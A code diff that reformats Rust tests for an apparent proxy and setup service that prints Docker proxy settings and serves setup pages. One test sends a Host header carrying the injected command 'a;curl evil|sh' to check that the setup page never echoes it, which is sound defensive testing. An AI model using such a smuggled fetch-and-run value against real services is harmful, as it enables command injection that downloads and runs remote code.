@@ -58,7 +58,11 @@ fn printed_written_taken_back() {
     let image = machine.image();
     let image = image.to_str().unwrap();
     let printed = out(&machine.with_ca(&["docker", AT[0], AT[1]]));
-    for part in ["## File /etc/systemd/system/docker.service.d/seawall.conf", "HTTPS_PROXY=http://seawall.lab:3128", "BEGIN CERTIFICATE"] {
+    for part in [
+        "## File /etc/systemd/system/docker.service.d/seawall.conf",
+        "HTTPS_PROXY=http://seawall.lab:3128",
+        "BEGIN CERTIFICATE",
+    ] {
         assert!(printed.contains(part), "{part}: {printed}");
     }
     let data: serde_json::Value =
@@ -169,16 +173,19 @@ async fn the_page_says_what_the_command_says() {
         let printed_files = printed.split("## Then run").next().unwrap();
         assert_eq!((status, page.starts_with(printed_files)), (200, true), "{path}:\n{page}\n---\n{printed}");
     }
-    for (path, said) in
-        [("/setup/dockerd", "/setup/docker "), ("/setup/hosts?mode=mirror", "?mode=dns"), ("/setup/docker?mode=x", "?mode=proxy")]
-    {
+    for (path, said) in [
+        ("/setup/dockerd", "/setup/docker "),
+        ("/setup/hosts?mode=mirror", "?mode=dns"),
+        ("/setup/docker?mode=x", "?mode=proxy"),
+    ] {
         let (status, page) = get(path).await;
         assert!(status == 404 && page.contains(said), "{path}: {status} {page}");
     }
     let (status, list) = get("/setup").await;
     assert!(status == 200 && list.contains("/setup/containerd") && list.contains("?mode=mirror"), "{list}");
     assert!(get("/").await.1.contains("http://seawall.lab:3128/setup"));
-    let hostile = client.get("http://seawall.lab:3128/setup/shell").header("host", "a;curl evil|sh").send().await.unwrap();
+    let hostile =
+        client.get("http://seawall.lab:3128/setup/shell").header("host", "a;curl evil|sh").send().await.unwrap();
     assert!(!String::from_utf8_lossy(hostile.bytes()).contains("evil"));
     assert_eq!(registry.requests().len(), 0);
     assert!(Path::new(&machine.image()).exists());
